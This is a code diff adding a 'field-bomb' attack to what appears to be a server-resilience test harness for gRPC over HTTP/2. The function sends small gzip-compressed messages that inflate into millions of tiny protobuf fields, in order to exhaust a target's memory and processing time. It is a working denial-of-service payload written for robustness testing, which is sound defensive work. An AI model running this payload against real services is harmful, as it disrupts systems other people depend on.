@@ -582,6 +582,23 @@ def expired_calls(target, patience):
     return converse(target, patience, call)
 
 
+@attack("field-bomb", needs_call=True)
+def field_bomb(target, patience):
+    """Messages of 4 KiB that inflate to the 4 MiB that most servers allow, of fields of two and three bytes: whoever makes
+    an object of each takes a hundred times as much, and a while."""
+    bodies = []
+    for field in (b"\x0a\0", b"\xfa\x07\0", b"\xf8\x07\x01", b"\x08\x01"):
+        message = gzip.compress(field * (4 * 2**20 // len(field)))
+        bodies.append(b"\1" + len(message).to_bytes(4) + message)
+    attacker = Attacker(target)
+    attacker.wait_for(lambda: attacker.received["WINDOW_UPDATE"])
+    for stream, body in zip(streams(GZIP_BOMBS), itertools.cycle(bodies)):
+        attacker.send(attacker.request(stream, False, ("grpc-encoding", "gzip")), 1)
+        for at in range(0, len(body), 2**14):
+            attacker.send(data(stream, body[at:at + 2**14], end_stream=at + 2**14 >= len(body)), 1)
+    return hold(patience, [attacker], "connections of bombs", lambda attacker: attacker.spent)
+
+
 @attack("gzip-bomb", needs_call=True)
 def gzip_bomb(target, patience):
     """Messages of 55 KiB that inflate to 56 MiB: each is to be refused, and nothing that large to be held for it. Every
